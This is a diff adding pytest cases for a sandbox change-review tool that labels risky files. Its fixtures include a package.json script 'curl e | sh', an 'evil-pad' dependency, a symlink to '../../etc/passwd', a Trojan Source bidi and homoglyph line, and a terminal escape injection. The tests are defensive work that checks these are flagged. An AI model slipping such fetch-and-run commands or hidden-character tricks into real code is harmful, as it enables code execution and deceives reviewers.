@@ -88,7 +88,7 @@ def test_review_shows_classes_and_diffs_and_changes_nothing(inst):
     assert "+TWO" not in listed and "changed  a.txt" in listed
     j = json.loads(inst.sbx("review", "--json", "demo", check=0).stdout)
     assert {"path": "out", "workspace": str(inst.work), "class": "symlink-out", "change": "new",
-            "directory": False, "target": "../../etc/passwd"} in j["changes"]
+            "directory": False, "target": "../../etc/passwd", "notes": None} in j["changes"]
     assert len(j["changes"]) == 11 and j["sandbox"] == "demo"
 
 
@@ -314,3 +314,70 @@ def test_a_killed_apply_is_continued_or_undone(inst):
             inst.sbx("undo", "demo")
             inst.sbx("undo", "demo")
         assert tree(inst.work) == before
+
+
+# -- classes that follow from contents and names --------------------------------------------------
+
+PACKAGE = (b'{"scripts": {"test": "jest"}, "dependencies": {"a": "1"}}',
+           b'{"scripts": {"test": "jest"}, "dependencies": {"a": "2", "evil-pad": "1"}}',
+           b'{"scripts": {"test": "curl e | sh"}, "dependencies": {"a": "2", "evil-pad": "1"}}')
+
+
+def notes_of(inst):
+    """Class and notes by path."""
+    p = inst.sbx("review", "--json", "demo", check=0)
+    assert p.stderr == "", p.stderr
+    return {c["path"]: (c["class"], c["notes"]) for c in json.loads(p.stdout)["changes"]}
+
+
+def test_classes_follow_from_names_and_contents(inst):
+    (inst.work / "package.json").write_bytes(PACKAGE[0])
+    create(inst)
+    send(inst, ("f/package.json", F, "", PACKAGE[2]), ("d/web", D, "", b""),
+         ("f/web/package.json", F, "", PACKAGE[1]),
+         ("f/requirements.txt", F, "", b"requests==2\nevil\n"), ("f/go.sum", F, "", b"x\n"),
+         ("d/.github", D, "", b""), ("d/.github/workflows", D, "", b""),
+         ("f/.github/workflows/ci.yml", F, "", b"on: push\n"), ("f/Dockerfile", F, "", b"FROM x\n"),
+         ("f/Makefile", F, "", b"all:\n"), ("f/a.txt", F, "", b"one\nTWO\n"),
+         ("f/evil.c", F, "", "if (is_\u0430dmin) /*\u202e*/\n".encode()))
+    found = notes_of(inst)
+    assert found["package.json"] == ("script-change", "dependency: evil-pad; script-change: test")
+    assert found["web/package.json"][0] == "script-change"
+    assert found["requirements.txt"] == ("dependency", "dependency: requests, evil")
+    assert found["go.sum"] == ("lockfile", "lockfile")
+    assert found[".github/workflows/ci.yml"] == ("ci", None)
+    assert found["Dockerfile"] == ("container", None)
+    assert found["Makefile"] == ("autorun", None)
+    assert found["a.txt"] == ("plain", None)
+    assert found["evil.c"] == ("unicode", "unicode: U+202E, is_\u0430dmin")
+    inst.sbx("apply", "--plain", "--yes", "demo", check=0)
+    assert {n for n, what in tree(inst.work).items() if what[0] == "file"} == {
+        ".git/config", "a.txt", "b.txt", "package.json", "src/c.c"}
+    assert (inst.work / "package.json").read_bytes() == PACKAGE[0]
+
+
+def test_names_that_differ_in_case_are_applied_only_by_path(inst):
+    (inst.work / "README").write_text("x\n")
+    (inst.work / "Old").write_text("x\n")
+    create(inst)
+    send(inst, ("f/Readme", F, "", b"y\n"), ("f/one", F, "", b"1\n"), ("f/ONE", F, "", b"2\n"),
+         ("x/Old", F, "", b""), ("f/old", F, "", b"renamed\n"), ("f/\u00c4", F, "", b"3\n"),
+         ("f/\u00e4", F, "", b"4\n"))
+    found = notes_of(inst)
+    assert found["Readme"] == ("case-clash", "case-clash: README")
+    assert found["one"] == ("case-clash", "case-clash: ONE")
+    assert found["ONE"] == ("case-clash", "case-clash: one")
+    assert found["\u00c4"][0] == found["\u00e4"][0] == "case-clash"
+    assert found["old"] == ("plain", None)
+    inst.sbx("apply", "--all", "--yes", "demo", check=0)
+    assert not (inst.work / "Readme").exists() and not (inst.work / "ONE").exists()
+    assert (inst.work / "old").read_text() == "renamed\n"
+    inst.sbx("apply", "--yes", "demo", "Readme", check=0)
+    assert (inst.work / "Readme").exists()
+
+
+def test_notes_are_clean_for_a_terminal(inst):
+    create(inst)
+    send(inst, ("f/requirements.txt", F, "", b"-e \x1b[2Jx\n"))
+    p = inst.sbx("review", "--list", "demo", check=0)
+    assert "dependency: -e ?[2Jx" in p.stdout and "\x1b" not in p.stdout
